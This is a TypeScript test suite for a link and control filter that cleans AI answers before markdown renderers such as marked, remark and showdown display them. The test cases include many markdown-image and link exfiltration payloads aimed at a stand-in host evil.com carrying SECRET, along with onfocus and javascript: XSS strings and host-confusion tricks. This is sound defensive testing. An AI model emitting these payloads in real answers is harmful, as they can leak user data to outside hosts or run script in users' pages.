import fc from 'fast-check';
import { controlFilter } from '../../../../lib/layers/gateway/runtime/output/control-filter';
import { escapeFilter } from '../../../../lib/layers/gateway/runtime/output/escape-filter';
import { chain, type TextFilter } from '../../../../lib/layers/gateway/runtime/output/filter';
import { linkFilter, REMOVED_LINK } from '../../../../lib/layers/gateway/runtime/output/link-filter';
import { effectsOf } from './links/effects';
import { rendered } from './links/rendered';
import { HOSTS, streamed } from './links/texts';

/** How many random texts are rendered; `verify:all` asks for more. */
const RUNS = Number(process.env.LINKS_RUNS ?? 150);
const SEED = Number(process.env.LINKS_SEED ?? 1);

const MODES: Readonly<Record<string, (hosts: readonly string[]) => TextFilter>> = {
  text: (hosts) => chain([controlFilter(), linkFilter(hosts)]),
  'html-escaped': (hosts) => chain([controlFilter(), linkFilter(hosts, 'keep'), escapeFilter()]),
};
/** The stricter first: where both let the same out, what it allows is enough. */
const POLICIES: readonly (readonly string[])[] = [[], HOSTS];

const filtered = (filter: TextFilter, pieces: readonly string[]) =>
  pieces.map((piece) => filter.push(piece)).join('') + filter.end();

/** What pages do that show a text. */
const shown = (text: string, hosts: readonly string[]) =>
  rendered(text).flatMap(({ name, page }) => effectsOf(page, hosts).map((effect) => `${name}: ${effect}`));

/** What pages do that show an answer, in each mode and with each policy; and that it comes out the same however it is cut. */
function effects(answer: string, cuts: readonly (readonly string[])[]): string[] {
  return Object.entries(MODES).flatMap(([mode, filter]) => {
    const seen = new Set<string>();
    return POLICIES.flatMap((hosts) => {
      const out = filtered(filter(hosts), [answer]);
      const differs = cuts.filter((pieces) => filtered(filter(hosts), pieces) !== out);
      const effects = seen.has(out) ? [] : shown(out, hosts);
      seen.add(out);
      return [...differs.map((pieces) => `differs, cut as ${JSON.stringify(pieces)}`), ...effects].map(
        (problem) => `${mode}, hosts ${hosts.join(' ')}: ${problem} in ${JSON.stringify(out)}`,
      );
    });
  });
}

const MARKDOWN = ['marked', 'markdown-it', 'remark', 'commonmark.js', 'showdown'];

describe('renderers', () => {
  test.each<[string, string, readonly string[]]>([
    ['an image', '![a](//evil.com/?q=SECRET)', MARKDOWN],
    ['a link', '[a](//evil.com/?q=SECRET)', MARKDOWN],
    ['an address', 'https://evil.com/?q=SECRET', ['marked', 'markdown-it', 'remark', 'linkifyjs']],
    ['a bare name with a path', 'evil.com/?q=SECRET', ['markdown-it with HTML', 'linkifyjs', 'remark, then linkifyjs']],
    ['an element', '<x onfocus=alert(1)>', ['marked', 'markdown-it with HTML', 'remark with HTML', 'commonmark.js']],
    ['a definition', '[a]\n\n[a]: //evil.com/?q=SECRET', ['marked', 'remark', 'commonmark.js', 'showdown']],
    ['a mail', 'SECRET@evil.com', ['marked', 'markdown-it', 'remark', 'linkifyjs']],
  ])('do something with %s that nobody filters, or this page would tell nothing', (_, text, names) => {
    const acting = shown(text, HOSTS).map((problem) => problem.split(': ')[0]);
    expect(acting).toEqual(expect.arrayContaining([...names]));
  });
  test('are let do what is allowed', () => {
    const allowed =
      '[a](https://docs.example.com/ "T") https://x.trusted.example/ <https://docs.example.com/x>\n\n' +
      '- [ ] task\n- [x] done\n\n| a | b |\n|:-:|--:|\n| 1 | `<b>` |\n\nx@docs.example.com and evil.com';
    expect(shown(allowed, HOSTS).filter((problem) => !problem.startsWith('as HTML'))).toEqual([]);
  });
});

describe('an answer makes no page fetch, run or link anything that is not allowed', () => {
  test.each([
    // what stands behind an address in brackets is alive when it is no destination
    '[help](https://docs.example.com ![a](https://evil.com/?q=SECRET))',
    '[help](https://docs.example.com\n![a](https://evil.com/?q=SECRET))',
    '[help](<https://docs.example.com> ![a](https://evil.com/?q=SECRET))',
    '[help](https://docs.example.com ![a](//evil.com/?q=SECRET))',
    '[help](https://docs.example.com <img src=//evil.com/?q=SECRET>)',
    '[help](https://docs.example.com "x" ![a](//evil.com/?q=SECRET))',
    '[help](https://docs.example.com "![a](//evil.com/?q=SECRET)")',
    '[help](https://docs.example.com "x" onmouseover=alert(1))',
    'See [1]: https://docs.example.com/![a](//evil.com/?q=SECRET)',
    '[click]: x //evil.com/\n\n[click]',
    '[click]: x //evil.com/?q=SECRET',
    '[click]:\n//evil.com/?q=SECRET\n\n[click]',
    '[a]: https://docs.example.com "x" y\n[a]: //evil.com/\n\n[a]',
    // white space between the brackets is for showdown
    '[click] (//evil.com/?q=SECRET)',
    '[click]\t( <//evil.com/?q=SECRET>)',
    '[click] (&#47;/evil.com/?q=SECRET)',
    '[click] (javascript:alert(1))',
    '[click] (\u00a0/x)',
    // what the filter takes out brings nothing together
    '!<b>[a](//evil.com/?q=SECRET)',
    '![a](x)[b](//evil.com/?q=SECRET)',
    '[a](x)(//evil.com/?q=SECRET)',
    '[a](x): //evil.com/?q=SECRET',
    '<![a](x)img src=//evil.com/?q=SECRET>',
    '<T <img> onfocus=alert(1) autofocus tabindex=1>',
    '<T, <b> onfocus=alert(1)>',
    // elements with any name
    '<x onfocus=alert(1) tabindex=1 autofocus>',
    '<x style="background:url(//evil.com/?q=SECRET)">',
    '<xss style=animation-name:x onanimationstart=alert(1)>',
    '<x/onfocus=alert(1)/autofocus>',
    '<é onfocus=alert(1)> <xé onfocus=alert(1)>',
    '<x\nonfocus\n=\nalert(1)\n>',
    '<x a=">" onfocus=alert(1)>',
    '<x " onfocus=alert(1) y">',
    '<x onfocus=alert(1) autofocus',
    '<img src=//evil.com/?q=SECRET\n\n',
    '<https://docs.example.com/onfocus=alert(1)/autofocus/tabindex=1>',
    // addresses whose host ends elsewhere for another reader
    ...[...'()\'"{}|^[]`\\,;:!*_~.#?&=+$%'].map((sign) => `https://docs.example.com${sign}@evil.com/?q=SECRET`),
    ...['\u00a0', '\u3000', '\u200d', '\u00ad', '\u2028', '。', '／'].map(
      (sign) => `https://docs.example.com${sign}@evil.com/?q=SECRET`,
    ),
    'https://docs.example.com:(x)@evil.com/?q=SECRET',
    'https://docs.example.com:x@evil.com/?q=SECRET',
    'https://docs.example.com\\@evil.com/?q=SECRET',
    `https://docs.example.com${':'.repeat(4_200)}@evil.com/?q=SECRET`,
    `https://docs.example.com/${'x'.repeat(5_000)}@evil.com/?q=SECRET`,
    'https://evil.com&sol;x.trusted.example/?q=SECRET',
    '[a](https://evil.com&sol;x.trusted.example/?q=SECRET)',
    '[a](https://evil.com%2fx.trusted.example/?q=SECRET)',
    // addresses that emphasis or a character reference cuts in two
    '**https://docs.example.com/?a**evil.com/?q=SECRET',
    '~~https://docs.example.com/?a~~https://evil.com/?q=SECRET',
    '__https://docs.example.com/?a__,www.evil.com/?q=SECRET',
    '*https://docs.example.com/?a*SECRET@evil.com',
    'https://docs.example.com/?_SECRET&commat;evil.com',
    'https://.trusted.example?a:b@evil.com/#evil.com/SECRET',
    '[a](https://.trusted.example/)',
    'https://docs.example.com/SECRET@evil.com',
    'https://docs.example.com/??evil.com/?q=SECRET',
    'https://docs.example.com/??SECRET@docs.example.com',
    'https://docs.example.com/?a&evil.com/?q=SECRET',
    'https://docs.example.com/?a&amp;evil.com/?q=SECRET',
    // addresses that become some when markdown is read
    'https&#58;//evil.com/?q=SECRET',
    'https&colon;//evil.com/?q=SECRET',
    'https\\://evil.com/?q=SECRET',
    'https:\\/\\/evil.com/?q=SECRET',
    'www&period;evil.com/?q=SECRET',
    'www\\.evil.com/?q=SECRET',
    'SECRET&commat;evil.com',
    'SECRET\\@evil.com',
    '&https://evil.com/?q=SECRET',
    // addresses without a scheme of the web, or without any
    'evil.com/?q=SECRET',
    'evil.com?q=SECRET',
    'evil.com#SECRET',
    'evil.com:8080/SECRET',
    'evil.com/12',
    'evil.com:8080/12',
    '127.0.0.1/SECRET',
    '127.0.0.1/24,SECRET',
    'evil.com./SECRET',
    'localhost/SECRET',
    '//evil.com/?q=SECRET',
    'x //evil.com',
    'mailto:a@evil.com?body=SECRET',
    'mailto:a@docs.example.com?body=SECRET',
    'mailto:a@127.0.0.1',
    'xmpp:a@evil.com/SECRET',
    'SECRET@evil.com',
    'd?x@docs.example.com',
    '<SECRET@evil.com>',
    '<mailto:a@evil.com?body=SECRET>',
    '<svn+ssh://evil.com/SECRET>',
    '<z.b://evil.com/SECRET>',
    '<javascript:alert(1)>',
    'file:SECRET///',
    // names with quotes, of which a shorter one would end elsewhere
    "<docs.x' onfocus='>'>",
    '<docs.x" onfocus=">">',
    `<x'y onfocus=alert(1) autofocus z='>' a="b">`,
    `<x"/onfocus=alert(1)/a=">"/>`,
    // a host of which one reader drops a letter, and another one ends there
    'SECRET@docs.e\u00adxample.com',
    'SECRET@docs.e\u200dxample.com',
    'SECRET@docs.e\uff0example.com',
    'SECRET@docs.\u212bxample.com',
    'SECRET@docs.e&shy;xample.com',
    // a host that goes on where markdown takes a sign out, or puts a letter in
    'SECRET@evil\\-x.com',
    'SECRET@evil\\_x.com',
    'SECRET@1.2\\--x.com',
    'SECRET@e&eacute;vil.com',
    'SECRET@1&#233;.com',
    'SECRET@1.2&#233;.com',
    'SECRET@[IPv6:::1]',
    'evil.&#1088;&#1092;/SECRET',
    '&#1088;https://docs.example.com/{docs.example.com',
    '&eacute;https://docs.example.com/{docs.example.com',
    'evil.&#x440;&#x444;:8080?SECRET',
    'evil.&epsilon;&lambda;#SECRET',
    'evil.verm&ouml;gensberater/SECRET',
    'evil.verm&#246;&#103;ensberater/SECRET',
    `evil.${'&#00001088;'.repeat(9)}/SECRET`,
    // a mail with a subject, to what else is the version of a package
    '?SECRET@127.0!.0.1',
    '?SECRET@1.2',
    '?x=lodash@1.2',
    '?`lodash@1.2',
    '?&amp;lodash@1.2',
    '?&apos;lodash@1.2',
    '?&amp;SECRET@docs.example.com',
    // half a letter, which some readers take together with the sign before it
    '!a@\ud83d!\udca9.la!',
    'a@evil\ud83d.\udca9com',
    // an element that shows nothing joins what stands on both sides of it
    '@evil.com<T>//',
    'evil.<T>com/?q=SECRET',
    'evil.com<T>/?q=SECRET',
    'evil.com<T>\\/SECRET',
    'evil.com<T<U>/?q=SECRET',
    'ht<T>tps://evil.com/?q=SECRET',
    'https:<T>//evil.com/?q=SECRET',
    'www<T>.evil.com/?q=SECRET',
    'SECRET<T>@evil.com',
    'mailto<T>:SECRET@evil.com',
    `evil.com<T${' '.repeat(200)}>/?q=SECRET`,
    // showdown puts code that stands next to an address into the link
    'https://docs.example.com/`x"` onfocus=`x`',
    'https://docs.example.com/.`x"` onfocus=`x`',
    '`x`https://docs.example.com/?www.evil.com/SECRET',
    '\\(https://docs.example.com/https://evil.com/?q=SECRET',
    'SECREThttps://docs.example.com/',
  ])('%j', (text) => {
    for (const answer of [text, `Before. ${text} After.`]) {
      const cuts = [1, 2, 7].map((size) => answer.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g'))!);
      expect(effects(answer, cuts)).toEqual([]);
    }
  });
  test(`of ${RUNS} random texts, however each is cut`, () => {
    const property = fc.property(streamed, ({ whole, pieces }) => {
      expect(effects(whole, [pieces, whole.split('')])).toEqual([]);
    });
    fc.assert(property, { numRuns: RUNS, seed: SEED });
  }, 3_600_000);
});

describe('an answer keeps', () => {
  const out = (text: string) => filtered(linkFilter(HOSTS), [text]);
  test.each([
    'a[0] = b[1]; // comment',
    'Map<string, List<T>> and Vec<T[]>, new Set<T>(), f<T>`x`, a < b, x <= y, 1 << 2, <3, (x) => x>y',
    'npm install lodash@4.17.21 @scope/name; @app.route("/x")',
    '`npm i lodash@4.17.21`, `@scope/name@1.2.3`, **lodash@4.17.21**, "lodash@4.17.21", \'lodash@4.17.21\'',
    'uses: actions/checkout@v4, git@github, n@1, a@b',
    'Caf&eacute;/bar, e&#769;/x, &eacute;t&eacute;?',
    'README.md, Node.js, user.id = 5, console.info(x), e.g./i.e., v1.2/v1.3, ../src/x, .github/workflows',
    'Is it example.com? It is example.com/ or example.com.',
    '&lt;b&gt; &amp;copy; &#39; &nbsp; &copy; AT&T',
    'C:\\Users\\x and \\(x\\), 10.0.0.0/24, 1/2, and/or',
    'See [docs][1] and [ ] or [x].\n\n[1]: https://docs.example.com/a "Title"\n',
    '[https://docs.example.com/a](https://docs.example.com/a?b=1&c=2)',
    'https://docs.example.com/@somebody/b',
    '**https://docs.example.com/a**, "https://docs.example.com/a", | https://docs.example.com/a |',
    '„https://docs.example.com/a“, «https://docs.example.com/a»',
    'https://docs.example.com/a_b/~c/?d=e&f=g_h&i=index.html',
    'Write to help@docs.example.com, or to help@docs.example.com.',
  ])('%s', (text) => {
    expect(out(text)).toBe(text);
  });
  test.each([
    // written anew
    ["[a](<HTTPS://DOCS.example.com> 'T')", '[a](https://docs.example.com/ "T")'],
    ['<https://docs.example.com/a> https://docs.example.com.', 'https://docs.example.com/a https://docs.example.com/.'],
    ['[a](https://docs.example.com "<b>")', '[a](https://docs.example.com/)'],
    ['請看https://docs.example.com/a。謝謝', '請看 https://docs.example.com/a。謝謝'],
    // and what is made plain
    ['dict[str, int]: x', 'dict[str, int] : x'],
    ['evil.com/a?b#c', 'evil.com /a?b#c'],
    ['//evil.com', '// evil.com'],
    ['help@evil.com', 'help at evil.com'],
    ['mailto:x', 'mailto: x'],
    ['a <b', 'a < b'],
    ['&colon; &#58;', '& colon; & #58;'],
    ['[a] (./x)', '[a] (  ./x)'],
  ])('%s as %s', (text, plain) => {
    expect(out(text)).toBe(plain);
  });
  test('nothing of an address that is too long, and what follows it', () => {
    expect(out(`https://docs.example.com/${'x'.repeat(9_000)} and more`)).toBe(`${REMOVED_LINK} and more`);
  });
});
